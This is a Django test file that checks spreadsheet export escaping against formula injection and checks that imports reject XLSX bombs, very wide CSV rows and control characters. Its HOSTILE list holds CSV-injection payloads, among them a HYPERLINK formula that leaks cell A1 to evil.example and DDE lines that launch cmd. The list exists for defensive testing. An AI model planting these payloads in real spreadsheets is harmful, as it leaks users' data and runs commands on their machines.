"""Hostile spreadsheets: formula injection on export, XLSX bombs on import, odd cells, odd stored text."""

import io
import re
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from common.spreadsheet_safety import SafeCSV, SafeXLSX, escape_cell, unescape_cell
from delegations.imports.reading import UnreadableFile, read_table
from exhibitors.models import Exhibitor
from exhibitors.resources import ExhibitorResource, ProductResource
from tests.hostile import (
    one_cell_claiming_the_whole_sheet,
    one_cell_far_away,
    one_row_of_two_million_cells,
    sheet_xml,
    workbook_around,
)

# OWASP "CSV Injection": what a spreadsheet would run, and the leading-space variants.
HOSTILE = [
    '==HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '=HYPERLINK("http://evil.example")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " @SUM(A1)",
    "＝1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_escape_cell_neutralises_every_formula_start(value):
    escaped = escape_cell(value)
    assert escaped == "'" + value
    assert unescape_cell(escaped) == value


def test_plain_text_and_numbers_are_left_alone():
    assert escape_cell("Tổng công ty Viettel") == "Tổng công ty Viettel"
    assert escape_cell("a=b") == "a=b"
    assert escape_cell(-5) == -5
    assert unescape_cell("'quoted") == "'quoted"


def _hostile_catalogue(catalogue):
    tank = catalogue["products"]["tank"]
    tank.name_en = HOSTILE[0]
    tank.summary_en = HOSTILE[3]
    tank.summary_vi = HOSTILE[5]
    tank.description_en = "Ký tự điều khiển\x01\x0b giữa câu\x1f"  # XLSX cannot hold these
    tank.save()
    exhibitor = catalogue["exhibitors"]["song_hong"]
    exhibitor.press_contact = HOSTILE[2]
    exhibitor.save()
    return tank


def test_catalogue_xlsx_export_holds_no_formula_and_survives_control_characters(catalogue):
    _hostile_catalogue(catalogue)
    for resource in (ProductResource(), ExhibitorResource()):
        body = SafeXLSX().export_data(resource.export())
        sheet = load_workbook(io.BytesIO(body)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert cells
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [t for t in texts if t.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    products = load_workbook(io.BytesIO(SafeXLSX().export_data(ProductResource().export()))).active
    values = [cell.value for row in products.iter_rows() for cell in row]
    assert "'" + HOSTILE[0] in values
    assert "Ký tự điều khiển\ufffd\ufffd giữa câu\ufffd" in values


def test_catalogue_csv_export_escapes_every_formula_start(catalogue):
    _hostile_catalogue(catalogue)
    text = SafeCSV().export_data(ProductResource().export())
    assert "'==HYPERLINK" in text and "'-2+3+cmd" in text and "'\t=1+1" in text
    assert not re.search(r'(^|,)"?[=+\-@]', text, re.MULTILINE)
    assert "'+84 912 345 678" in SafeCSV().export_data(ExhibitorResource().export())


def test_admin_export_view_writes_escaped_cells(admin_client, catalogue):
    _hostile_catalogue(catalogue)
    url = reverse("admin:exhibitors_product_export")
    html = admin_client.get(url).content.decode()
    xlsx = re.search(r'<option value="(\d+)">xlsx</option>', html).group(1)
    fields = re.findall(r'name="(productresource_[a-z_]+)"', html)
    response = admin_client.post(url, {"format": xlsx, "resource": "0", **dict.fromkeys(fields, "on")})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + HOSTILE[0] in [cell.value for cell in cells]


# --- XLSX bombs -----------------------------------------------------------------------------


BOMBS = {
    "2 million cells in one row": one_row_of_two_million_cells,
    "a dimension claiming the whole sheet": one_cell_claiming_the_whole_sheet,
    "a cell a million rows down": one_cell_far_away,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_catalogue_import_refuses_xlsx_bombs_quickly(admin_client, sectors, bomb):
    data = BOMBS[bomb]()
    assert len(data) < 100_000
    url = reverse("admin:exhibitors_exhibitor_import")
    html = admin_client.get(url).content.decode()
    fmt = re.search(r'<option value="(\d+)">xlsx</option>', html).group(1)
    upload = SimpleUploadedFile("exhibitors.xlsx", data)
    started = time.perf_counter()
    response = admin_client.post(
        url, {"resource": "0", "format": fmt, "import_file": upload}, headers={"accept-language": "en"}
    )
    assert time.perf_counter() - started < 5
    assert response.status_code == 200
    assert "The workbook is too large: at most 50,000 rows and 100 columns on a sheet." in response.content.decode()


@pytest.mark.parametrize("bomb", BOMBS)
def test_delegation_reader_refuses_xlsx_bombs_quickly(bomb):
    data = BOMBS[bomb]()
    started = time.perf_counter()
    with translation.override("en"), pytest.raises(UnreadableFile, match="too large"):
        read_table(data, "members.xlsx")
    assert time.perf_counter() - started < 5


def test_workbook_unpacking_to_too_much_is_refused(admin_client, sectors):
    huge = workbook_around(
        sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * (110 * 1024 * 1024) + "</t></is></c></row>")
    )
    with translation.override("en"), pytest.raises(UnreadableFile, match="unpacks to more than 100 MB"):
        read_table(huge, "members.xlsx")


def test_csv_with_a_row_of_many_columns_is_refused(admin_client, sectors):
    url = reverse("admin:exhibitors_exhibitor_import")
    html = admin_client.get(url).content.decode()
    fmt = re.search(r'<option value="(\d+)">csv</option>', html).group(1)
    upload = SimpleUploadedFile("exhibitors.csv", ("slug,name\n" + "," * 500_000 + "\n").encode())
    response = admin_client.post(
        url, {"resource": "0", "format": fmt, "import_file": upload}, headers={"accept-language": "en"}
    )
    assert "A row of the file has more than 100 columns." in response.content.decode()


# --- odd cells in the catalogue import ------------------------------------------------------


def _import(admin_client, upload, fmt_name):
    url = reverse("admin:exhibitors_exhibitor_import")
    html = admin_client.get(url).content.decode()
    fmt = re.search(rf'<option value="(\d+)">{fmt_name}</option>', html).group(1)
    return admin_client.post(
        url, {"resource": "0", "format": fmt, "import_file": upload}, headers={"accept-language": "en"}
    )


HEADER = ["slug", "name", "country", "website", "press_contact", "description_vi", "description_en", "sectors"]


def test_odd_cell_types_in_an_xlsx_give_row_errors_not_a_500(admin_client, sectors):
    import datetime

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(["ok-1", 12345, "VN", 3.5, 84912345678, datetime.datetime(2024, 12, 19), True, "naval"])
    sheet.append(["ok-2", "=1+1", "VN", "", "", "", "", 7])
    sheet.append([datetime.date(2024, 12, 19), "Ngày", "VN", "", "", "", "", ""])
    sheet.append(["ok-3", "Tổng công ty Viettel", 84, "", "", "", "", ""])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _import(admin_client, SimpleUploadedFile("exhibitors.xlsx", buffer.getvalue()), "xlsx")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Errors" in html or "error" in html.lower()
    assert "Traceback" not in html
    assert not Exhibitor.objects.exists()


def test_a_control_character_in_a_cell_is_named_for_its_row_and_column(admin_client, sectors):
    sheet = ",".join(HEADER) + "\nbad-1,Công ty\x01 Sông Hồng,VN,,,,,naval\nbad-2,Nul\x00 Corp,VN,,,,,naval\n"
    response = _import(admin_client, SimpleUploadedFile("exhibitors.csv", sheet.encode()), "csv")
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("This cell contains a control character (invisible); delete it and import again.") == 2
    assert "Traceback" not in html
    assert not Exhibitor.objects.exists()


def test_reimporting_our_escaped_export_gives_back_the_text(admin_client, catalogue):
    exhibitor = catalogue["exhibitors"]["song_hong"]
    exhibitor.press_contact = "+84 24 3826 1234"
    exhibitor.save()
    body = SafeCSV().export_data(ExhibitorResource().export())
    assert "'+84 24 3826 1234" in body
    exhibitor.press_contact = "changed"
    exhibitor.save()
    response = _import(admin_client, SimpleUploadedFile("exhibitors.csv", body.encode()), "csv")
    assert response.status_code == 200
    html = response.content.decode()
    confirm = dict(
        re.findall(r'name="(import_file_name|original_file_name|format|resource)"[^>]*value="([^"]*)"', html)
    )
    admin_client.post(reverse("admin:exhibitors_exhibitor_process_import"), confirm)
    exhibitor.refresh_from_db()
    assert exhibitor.press_contact == "+84 24 3826 1234"
